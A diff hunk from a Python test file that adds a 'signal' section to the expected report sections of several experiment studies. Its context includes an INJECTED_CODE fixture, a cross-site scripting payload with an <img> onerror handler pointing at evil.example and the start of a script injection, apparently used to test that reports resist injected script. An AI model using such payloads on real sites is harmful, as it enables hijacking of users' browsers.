@@ -18,12 +18,13 @@ pytestmark = pytest.mark.skipif(
 STUDIES = {"activations": ACTIVATIONS, "mixed": MIXED, "rates": RATES, "screening": plackett_burman(),
            "policies": POLICIES}  # fmt: skip
 SECTIONS = {
-    "activations": "differences arms curves ranks costs positions noise bill provenance",
-    "mixed": "differences arms curves effects interactions ranks costs positions noise lost bill provenance",
-    "rates": "arms curves effects interactions ranks costs rates positions samples noise bill provenance",
-    "policies": "differences arms frontier curves effects interactions ranks costs positions noise bill provenance",
-    "screening": "arms curves effects half-normal aliases ranks costs positions noise bill provenance",
-}
+    "activations": "differences arms curves ranks costs positions noise signal bill provenance",
+    "mixed": "differences arms curves effects interactions ranks costs positions noise signal lost bill provenance",
+    "rates": "arms curves effects interactions ranks costs rates positions samples noise signal bill provenance",
+    "policies":
+        "differences arms frontier curves effects interactions ranks costs positions noise signal bill provenance",
+    "screening": "arms curves effects half-normal aliases ranks costs positions noise signal bill provenance",
+}  # fmt: skip
 INJECTED_CODE = """
     document.body.insertAdjacentHTML("beforeend", '<img src="http://evil.example/x" onerror="window.owned = 1">');
     const hole = document.createElement("script");
